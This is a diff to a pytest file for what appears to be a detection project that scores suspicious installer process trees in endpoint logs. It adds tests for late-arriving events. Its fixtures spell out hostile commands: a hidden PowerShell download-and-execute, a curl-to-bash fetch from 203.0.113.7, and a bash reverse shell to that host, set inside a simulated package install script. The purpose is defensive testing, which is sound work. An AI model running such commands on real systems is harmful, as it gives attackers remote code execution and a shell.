@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Iterable
 from copy import copy
 from pathlib import Path
 
@@ -11,6 +12,7 @@ import pytest
 from spl.app import App
 from spl.cases import FOLDER, NOW, Case, differences, load
 from spl.errors import SplError
+from spl.matching import Row
 from spl.risk import risk_events
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -154,7 +156,10 @@ def test_the_rest_of_a_tree_that_was_seen_whole_is_no_finding_of_its_own(
 def test_a_slow_install_is_one_finding_and_one_tree(
     app: App, search: str, gap: int, guids: bool
 ) -> None:
-    """Hourly runs over a package whose script acts only after a while."""
+    """Hourly runs over a package whose script acts only after a while.
+
+    After more than 1 h 50 min it can be two without GUIDs, as docs/detections.md says.
+    """
     script = 'powershell -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(1)"'
     install = "msiexec /i C:\\Users\\u\\Downloads\\a.msi"
     first = {"_time": 0, "dest": "a", "process_id": 7, "process_name": "msiexec.exe",
@@ -173,7 +178,57 @@ def test_a_slow_install_is_one_finding_and_one_tree(
         for row in run.run_saved(stanza(search), {"Endpoint.Processes": rows}).rows:
             tree = str(row["installer_tree_id" if "summary" in search else "tree_key"])
             told[tree] = max(told.get(tree, 0), int(float(row["installer_score"])))
-    assert [score >= 60 for score in told.values()].count(True) == 1, told
+    wanted = 2 if gap == 7_200 and not guids else 1
+    assert [score >= 60 for score in told.values()].count(True) == wanted, told
+
+
+def burst(last: float, guids: bool = False, root: bool = False) -> list[Row]:
+    """A maintainer script that opens a reverse shell, 20 seconds; dpkg's own event is lost."""
+    steps = [
+        (7, "dpkg", "dpkg -i /tmp/x.deb"),
+        (8, "dash", "/bin/sh /var/lib/dpkg/info/x.postinst configure"),
+        (9, "bash", "bash -c curl -fsSL http://203.0.113.7/a | bash"),
+        (10, "bash", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
+    ]
+    rows = [
+        {"_time": last - 5 * (10 - pid), "dest": "web1", "process_id": pid, "process_name": name,
+         "process": line}
+        for pid, name, line in steps
+    ]  # fmt: skip
+    for above, row in zip(rows, rows[1:]):
+        row.update({f"parent_{k}": above[k] for k in ("process_id", "process_name", "process")})
+    if guids:
+        for row in rows:
+            row["process_guid"] = f"{{G-{row['process_id']}}}"
+            row["parent_process_guid"] = f"{{G-{row['process_id'] - 1}}}"
+    return rows if root else rows[1:]
+
+
+def hourly(app: App, name: str, rows: list[Row], late: float, runs: Iterable[int]) -> list[Row]:
+    """What hourly runs of a search find, of events that arrive so many seconds late."""
+    found = []
+    for hour in runs:
+        run = copy(app)
+        run.now = NOW + 3600 * hour
+        seen = [row for row in rows if row["_time"] + late <= run.now]
+        found += run.run_saved(stanza(name), {"Endpoint.Processes": seen}).rows
+    return found
+
+
+@pytest.mark.parametrize("minute", [1, 59])
+@pytest.mark.parametrize(
+    ("late", "guids", "root"),
+    [(3600, False, False), (4200, False, False), (7100, True, False), (7100, False, True)],
+    ids=["an hour", "70 minutes", "two hours, GUIDs", "two hours, root"],
+)
+def test_what_arrives_late_still_counts(
+    app: App, minute: int, late: int, guids: bool, root: bool
+) -> None:
+    """As docs/detections.md has it, wherever in the hour it happens."""
+    rows = burst(NOW + 60 * minute, guids, root)
+    found = hourly(app, "installer_process_tree_score_high", rows, late, range(1, 5))
+    assert {float(row["installer_score"]) >= 60 for row in found} == {True}
+    assert len({row["tree_key"] for row in found}) == 1
 
 
 @pytest.mark.parametrize(
